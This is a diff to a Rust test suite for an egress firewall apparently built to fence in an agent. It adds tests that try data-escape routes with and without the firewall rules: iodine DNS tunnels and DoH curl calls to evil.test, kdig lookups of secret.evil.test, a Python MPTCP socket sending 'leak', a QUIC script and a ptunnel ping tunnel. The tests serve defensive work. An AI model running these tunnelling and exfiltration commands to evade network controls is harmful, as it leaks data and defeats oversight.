@@ -32,7 +32,47 @@ fn escapes() -> Vec<String> {
         .chain(v4)
         .chain(v6)
         .chain(others)
+        .chain(with_other_tools())
         .collect()
+}
+
+/// Tunnels through DNS and ping, DNS over TLS, HTTPS and TCP, HTTP/3, Multipath TCP.
+fn with_other_tools() -> Vec<String> {
+    let mptcp = "import socket,sys\ns=socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET,socket.SOCK_STREAM,262)\n\
+                 s.settimeout(1)\ns.connect((sys.argv[1],443))\ns.send(b'leak')";
+    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    // The packages of the tests with the system's interpreter: another may be where the agent cannot execute it.
+    let packages = folder.join(".venv/lib/python3.*/site-packages");
+    let python = format!("PYTHONPATH=$(echo {}) /usr/bin/python3", packages.display());
+    let quic = folder.join("tests/rig/quic.py").display().to_string();
+    let mut lines = vec![
+        // It wants to be root, and gets a device of its own: `tunnel_device`.
+        "timeout 3 unshare -Ur iodine -f -r -d dns0 -P x 8.8.8.8 t.evil.test".to_owned(),
+        "curl -sk -m 2 --doh-insecure --doh-url https://8.8.8.8/dns-query https://evil.test/"
+            .to_owned(),
+    ];
+    for way in ["+tls", "+https", "+tcp", "+notcp +dnssec"] {
+        lines.push(format!(
+            "kdig @8.8.8.8 {way} +timeout=1 +retry=0 secret.evil.test"
+        ));
+    }
+    for address in [SERVER, SERVER6] {
+        lines.push(format!("/usr/bin/python3 -c \"{mptcp}\" {address}"));
+        lines.push(format!("{python} {quic} {address}"));
+    }
+    lines
+}
+
+/// Ping tunnels need raw sockets, which the agent cannot have: the tool itself must say so.
+const PING_TUNNEL: &str = "timeout 2 ptunnel -p 93.184.216.34 -lp 8099 -da 93.184.216.99 -dp 22";
+
+/// A tunnel device of the agent's own, for tools that would otherwise end before they send anything.
+fn tunnel_device(rig: &Rig) {
+    let user = AGENT.to_string();
+    let made = rig.places.root(&[
+        "ip", "tuntap", "add", "dev", "dns0", "mode", "tun", "user", &user,
+    ]);
+    assert_eq!(made.code, Some(0), "{made:?}");
 }
 
 fn by_name() -> Vec<String> {
@@ -145,8 +185,33 @@ fn without_the_fence_the_same_attempts_are_seen() {
 }
 
 #[test]
+fn each_of_the_other_tools_is_seen_without_the_fence_and_not_with_it() {
+    let rig = Rig::new(POLICY);
+    tunnel_device(&rig);
+    for line in with_other_tools() {
+        let before = rig.witnessed();
+        let tried = rig.places.agent(&["sh", "-c", &line]);
+        assert!(rig.witnessed() > before, "`{line}` works: {tried:?}");
+    }
+    rig.iptables("apply");
+    // What is still on its way from before the rules.
+    let before = wait_for("a quiet moment", || {
+        let before = rig.witnessed();
+        std::thread::sleep(std::time::Duration::from_millis(200));
+        (rig.witnessed() == before).then_some(before)
+    });
+    for line in with_other_tools() {
+        let tried = rig.places.agent(&["sh", "-c", &line]);
+        assert_eq!(rig.witnessed(), before, "`{line}`: {tried:?}");
+    }
+    let pinged = rig.places.agent(&["sh", "-c", PING_TUNNEL]);
+    assert_eq!(rig.witnessed(), before, "{pinged:?}");
+}
+
+#[test]
 fn nothing_leaves_whether_egret_serves_sleeps_is_dead_or_not_yet_there() {
     let mut rig = Rig::new(POLICY);
+    tunnel_device(&rig);
     rig.iptables("apply");
     assert_eq!(try_everything(&rig), 0, "not yet started");
     rig.start_egret();
@@ -405,6 +470,14 @@ fn egret_keeps_no_privilege_in_any_thread_and_warns_of_neighbours_that_have_some
     assert!(
         !said.contains(&format!("process {} ", harmless.id())),
         "{said}"
+    );
+    let metrics = rig
+        .places
+        .agent(&["curl", "-s", "http://127.0.0.1:15000/metrics"])
+        .stdout;
+    assert!(
+        metrics.contains("egret_unfenced_neighbours 1\n") && !metrics.contains("sleep"),
+        "{metrics}"
     );
     for task in std::fs::read_dir(format!("/proc/{}/task", rig.egret().id())).unwrap() {
         let status = std::fs::read_to_string(task.unwrap().path().join("status")).unwrap();
